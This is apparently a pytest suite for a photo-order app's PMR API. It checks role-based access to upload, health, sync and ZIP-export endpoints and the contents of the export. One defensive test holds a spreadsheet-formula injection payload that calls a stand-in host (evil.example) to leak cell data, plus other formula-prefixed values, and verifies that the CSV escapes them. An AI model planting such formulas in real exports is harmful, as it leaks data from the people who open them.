"""Who may call the PMR endpoints of the API, and the manual-upload ZIP: one table each.

Orders are seen from the ``User`` role: ``own`` (theirs) and ``other`` (another User's,
invisible to them). Every case is its own test (a fresh order with a failed PMR write, so
"queue the upload" has something to queue)."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile

import pytest
from PIL import Image as PILImage
from rest_framework.test import APIClient

from orders.models import OrderPrint, PrintSize
from pmr import drain
from pmr.models import OutboxEntry
from pmr.outbox import image_ref

from .conftest import add_processed_images

pytestmark = pytest.mark.django_db
WHO = ["Admin", "Manager", "User", "Viewer", "norole", "anonymous"]
VIEW = {"Admin": 200, "Manager": 200, "User": 200, "Viewer": 200, "norole": 403, "anonymous": 401}

# (endpoint, target, who) -> status. Upload: the order's own rule (process); a User does not
# even see another User's order (404); Viewer sees it but may not act (403).
UPLOAD = {
    "own": {"Admin": 202, "Manager": 202, "User": 202, "Viewer": 403},
    "other": {"Admin": 202, "Manager": 202, "User": 404, "Viewer": 403},
}
CASES = []
for who in WHO:
    for target in ("own", "other"):
        expected = UPLOAD[target].get(who, VIEW[who])
        CASES.append(("upload", target, who, expected))
    CASES.append(("validate", "", who, VIEW[who]))
    # The PMR's address and every order's backlog: for the people who run deliveries.
    health = {"Admin": 200, "Manager": 200, "User": 403, "Viewer": 403}
    CASES.append(("health", "", who, health.get(who, VIEW[who])))
    sync = {"Admin": 202, "Manager": 202, "User": 403, "Viewer": 403}
    CASES.append(("sync", "", who, sync.get(who, VIEW[who])))


@pytest.fixture
def orders(sim, event, users, make_order, media_root):
    """Orders of ``User`` and of another User, each with a write the PMR refused."""
    sim.add_events([{"event_id": event.event_id, "name": "Test", "status": "open"}], [])
    made = {"own": make_order(users["User"]), "other": make_order(users["other"])}
    for order in made.values():
        add_processed_images(order, 1)
        OutboxEntry.objects.create(
            order=order,
            kind=OutboxEntry.Kind.ORDER_PUT,
            idempotency_key=f"{order.order_ref}:put:test",
            state=OutboxEntry.State.FAILED,
        )
    return made


def api_as(users, who: str) -> APIClient:
    api = APIClient()
    if who != "anonymous":
        api.force_login(users[who])
    return api


@pytest.mark.parametrize(("endpoint", "target", "who", "expected"), CASES)
def test_pmr_api_role_matrix(
    orders, users, monkeypatch, endpoint, target, who, expected, django_capture_on_commit_callbacks
):
    from pmr import tasks

    pulls = []
    monkeypatch.setattr(tasks.pull_updates, "delay", lambda: pulls.append(1))
    api = api_as(users, who)
    with django_capture_on_commit_callbacks(execute=False):
        if endpoint == "upload":
            order = orders[target]
            response = api.post("/api/v1/pmr/upload", {"order": order.order_ref}, format="json")
        elif endpoint == "validate":
            response = api.get("/api/v1/pmr/validate", {"event_id": "EVT-2026-WED-0142"})
        elif endpoint == "health":
            response = api.get("/api/v1/pmr/health")
        else:
            response = api.post("/api/v1/pmr/sync")
    assert response.status_code == expected, (endpoint, target, who, response.content[:300])
    body = response.json()
    if expected >= 400:
        assert set(body) == {"error"}, body
        assert body["error"]["code"], body
        if endpoint == "upload":  # refused: the failed write is still failed
            assert orders[target].pmr_outbox.get().state == OutboxEntry.State.FAILED
        assert not pulls
        return
    if endpoint == "upload":
        assert body == {"order": orders[target].order_ref, "queued": 1}
        assert orders[target].pmr_outbox.get().state == OutboxEntry.State.PENDING
    elif endpoint == "validate":
        assert body["found"]
        assert body["open"]
        assert body["reachable"]
    elif endpoint == "health":
        assert body["pmr"]["reachable"]
        assert body["pmr"]["circuit"]["state"] == "closed"
        assert body["outbox"]["failed"] == 2
    else:
        assert body == {"queued": True}
        assert pulls == [1]


def test_health_and_validate_say_503_when_the_pmr_is_down(sim, users):
    sim.set_faults(down=True)
    api = api_as(users, "Manager")
    health = api.get("/api/v1/pmr/health")
    assert health.status_code == 503
    assert not health.json()["pmr"]["reachable"]
    check = api.get("/api/v1/pmr/validate", {"event_id": "EVT-2026-WED-0142"})
    assert check.status_code == 503
    assert not check.json()["reachable"]


# --- the ZIP for a manual upload --------------------------------------------------------------

EXPORT = {"Admin": 200, "Manager": 200, "User": 404, "Viewer": 404, "norole": 404}


@pytest.mark.parametrize("who", WHO)
@pytest.mark.parametrize("target", ["own", "other"])
def test_export_zip_role_matrix(orders, client, users, who, target):
    order = orders[target]
    if who != "anonymous":
        client.force_login(users[who])
    response = client.get(f"/pmr/orders/{order.order_ref}/export.zip")
    if who == "anonymous":
        assert response.status_code == 302
        assert "login" in response["Location"]
        return
    assert response.status_code == EXPORT[who], (who, target)
    if response.status_code == 200:
        assert response["Content-Type"] == "application/zip"
        assert order.order_ref in response["Content-Disposition"]


def test_export_zip_holds_what_the_pmr_would_receive(
    sim, pmr_event, ai_done_order, client, users, settings
):
    """Issue 16: per image the original (its bytes as received), the edited file and each
    print rendition, named so a person sees which is which, with a manifest; streamed."""
    order = ai_done_order(3)
    drain.drain_order(order.pk)  # two kinds of delivered image: synced ones...
    add_processed_images(order, 1)  # ... and one still waiting (processed)
    size = PrintSize.objects.get(code="4x6")
    OrderPrint.objects.create(order=order, size=size, quantity=2)
    client.force_login(users["Manager"])
    response = client.get(f"/pmr/orders/{order.order_ref}/export.zip")
    assert response.status_code == 200
    assert response.streaming
    pieces = list(response.streaming_content)
    assert len(pieces) > 12  # written as it goes, not in one piece at the end
    archive = zipfile.ZipFile(io.BytesIO(b"".join(pieces)))
    names = set(archive.namelist())
    files = sorted(n for n in names if n.startswith("images/"))
    assert names == {*files, "metadata.csv", "manifest.json"}
    assert len(files) == 12  # 4 images x (original, edited, 4x6 print)
    manifest = json.loads(archive.read("manifest.json"))
    assert manifest["order_ref"] == order.order_ref
    assert manifest["event_id"] == pmr_event.event_id
    assert manifest["files"] == 12
    table = list(csv.DictReader(io.StringIO(archive.read("metadata.csv").decode())))
    assert sorted(row["file"] for row in table) == files
    images = {image_ref(i): i for i in order.images.all()}
    assert sorted(item["image_ref"] for item in manifest["images"]) == sorted(images)
    for item in manifest["images"]:
        image = images[item["image_ref"]]
        stem = image.original_filename.rsplit(".", 1)[0]
        folder = f"images/{item['image_ref']}"
        by_variant = {(f["variant"], f["print_size"]): f for f in item["files"]}
        assert sorted(by_variant) == [("edited", None), ("original", None), ("print", "4x6")]
        original = by_variant[("original", None)]
        assert original["file"] == f"{folder}/{stem}-original.jpg"
        assert archive.read(original["file"]) == image.original.read()  # as received
        assert original["sha256"] == image.sha256
        edited = by_variant[("edited", None)]
        assert edited["file"] == f"{folder}/{stem}-edited.jpg"
        assert archive.read(edited["file"]) == image.processed.read()
        assert (edited["width"], edited["height"]) == (48, 32)
        printed = by_variant[("print", "4x6")]
        assert printed["file"] == f"{folder}/{stem}-print-4x6.jpg"
        data = archive.read(printed["file"])
        assert hashlib.sha256(data).hexdigest() == printed["sha256"]
        with PILImage.open(io.BytesIO(data)) as picture:
            assert picture.size == (printed["width"], printed["height"]) == (48, 32)
            assert round(picture.info["dpi"][0]) == printed["dpi"] == 8
        assert original["dpi"] == edited["dpi"] == 8
        assert item["caption"].startswith("Photo ")
    for row in table:
        assert row["sha256"] == hashlib.sha256(archive.read(row["file"])).hexdigest()
        assert row["variant"] in ("original", "edited", "print")


def test_a_digital_only_export_states_pixels_and_the_largest_print(
    sim, pmr_event, ai_done_order, client, users, settings
):
    settings.PRINT_MIN_DPI = 5  # 48x32 pixels: 8 DPI at 4x6, 6 at 5x7, 4 at 8x10
    order = ai_done_order(1, deliver=False)
    client.force_login(users["Manager"])
    response = client.get(f"/pmr/orders/{order.order_ref}/export.zip")
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    (item,) = json.loads(archive.read("manifest.json"))["images"]
    assert [f["variant"] for f in item["files"]] == ["original", "edited"]
    for entry in item["files"]:
        assert entry["dpi"] is None
        assert entry["digital"] == {
            "pixels": [48, 32],
            "megapixels": 0.0,
            "largest_print": "5x7",
            "largest_print_min_dpi": 5,
        }


def test_export_csv_cells_never_run_as_spreadsheet_formulas(
    sim, pmr_event, ai_done_order, client, users
):
    order = ai_done_order(1)
    image = order.images.get()
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    image.original_filename = "@SUM(1+1).jpg"
    image.ai_metadata = {
        **image.ai_metadata,
        "caption": {"caption": formula, "alt_text": "-2+3", "keywords": ["+cmd", "plain"]},
    }
    image.save(update_fields=["original_filename", "ai_metadata"])
    client.force_login(users["Manager"])
    response = client.get(f"/pmr/orders/{order.order_ref}/export.zip")
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    rows = list(csv.DictReader(io.StringIO(archive.read("metadata.csv").decode())))
    assert [row["variant"] for row in rows] == ["original", "edited"]  # a row per file
    row = rows[0]
    assert row["caption"] == "'" + formula
    assert row["original_filename"] == "'@SUM(1+1).jpg"
    assert row["alt_text"] == "'-2+3"
    assert row["keywords"] == "'+cmd; plain"
    # manifest.json is data, not a spreadsheet: it keeps the text as it is.
    assert json.loads(archive.read("manifest.json"))["images"][0]["caption"] == formula


def test_a_zip_export_is_audited(sim, pmr_event, ai_done_order, client, users):
    from auditlog.models import LogEntry

    order = ai_done_order(1)
    client.force_login(users["Manager"])
    response = client.get(f"/pmr/orders/{order.order_ref}/export.zip", REMOTE_ADDR="192.0.2.9")
    assert response.status_code == 200
    (entry,) = LogEntry.objects.get_for_object(order).filter(action=LogEntry.Action.ACCESS)
    assert entry.additional_data == {"event": "exported_zip"}
    assert (entry.actor, entry.remote_addr) == (users["Manager"], "192.0.2.9")
